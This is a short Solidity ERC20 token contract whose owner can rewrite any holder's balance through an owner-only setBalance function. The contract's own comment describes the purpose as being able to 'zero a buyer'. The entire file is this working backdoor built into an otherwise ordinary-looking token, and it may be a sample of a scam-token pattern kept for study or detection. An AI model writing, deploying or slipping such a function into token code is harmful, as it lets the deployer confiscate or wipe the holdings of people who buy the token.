// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./lib/ERC20Core.sol";
import "./lib/Owned.sol";

/// The owner can rewrite any holder's balance (the supply follows), e.g. zero a buyer.
contract BalanceControlToken is ERC20, Owned {
    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _mint(msg.sender, supply);
    }

    function setBalance(address account, uint256 amount) external onlyOwner {
        _adjust(account, amount);
    }

    function _adjust(address account, uint256 amount) internal {
        uint256 current = _balances[account];
        if (amount > current) _mint(account, amount - current);
        else if (amount < current) _burn(account, current - amount);
    }
}
